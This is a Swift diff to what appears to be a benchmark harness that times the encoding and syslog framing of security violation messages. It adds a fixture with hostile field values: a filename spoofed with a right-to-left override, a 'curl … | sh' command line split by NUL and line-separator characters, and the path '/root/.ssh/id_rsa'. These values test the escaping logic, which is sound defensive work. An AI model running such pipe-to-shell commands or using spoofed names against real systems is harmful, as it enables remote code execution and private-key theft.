@@ -54,8 +54,20 @@ import Synchronization
             return kept.count
         }
         print("counter check (one array per iteration): \(control.allocationsPerMessage) allocations/iteration")
-        for hostile in [false, true] {
-            let v = violation(hostile: hostile)
+        var summary = violation(hostile: false)  // a throttle summary, with bidi controls and U+2028 in its fields
+        summary.process.executable = UntrustedBytes("/tmp/evil\u{202E}hs.exe")
+        summary.process.commandLine = UntrustedBytes("sh\u{0}-c\u{0}curl x\u{2028}|sh")
+        summary.process.filePath = "/root/.ssh/id_rsa"
+        summary.count = 41
+        summary.fold = .init(
+            kind: .repeats, firstSerial: 457, lastSerial: 497, firstTime: Timestamp(millisecondsSinceEpoch: 1_795_932_000_130),
+            lastTime: Timestamp(millisecondsSinceEpoch: 1_795_932_009_990))
+        let cases = [
+            ("-- typical violation --", violation(hostile: false)),
+            ("\n-- hostile violation (4 KiB executable of binary bytes) --", violation(hostile: true)),
+            ("\n-- throttle summary (fold span; bidi controls and U+2028 escaped) --", summary),
+        ]
+        for (title, v) in cases {
             // Baseline: frame an already rendered JSON message of the same size (memcpy + length prefix).
             var plainEncoder = MessageEncoder(formatter: JSONFormatter(), syslog: header)
             let rendered = plainEncoder.encode(v)
@@ -64,7 +76,7 @@ import Synchronization
                 rendered.withUnsafeBytes { StreamFraming.octetCounting.frame($0, into: &frame) }
                 return frame.count
             }
-            print(hostile ? "\n-- hostile violation (4 KiB executable of binary bytes) --" : "-- typical violation --")
+            print(title)
             print("baseline (frame a pre-rendered message): 1.00x time, \(baseline.allocationsPerMessage) allocations/message, \(baseline.bytes) bytes")
             for format in ViolationFormat.allCases {
                 var encoder = MessageEncoder(formatter: format.formatter(), syslog: header)
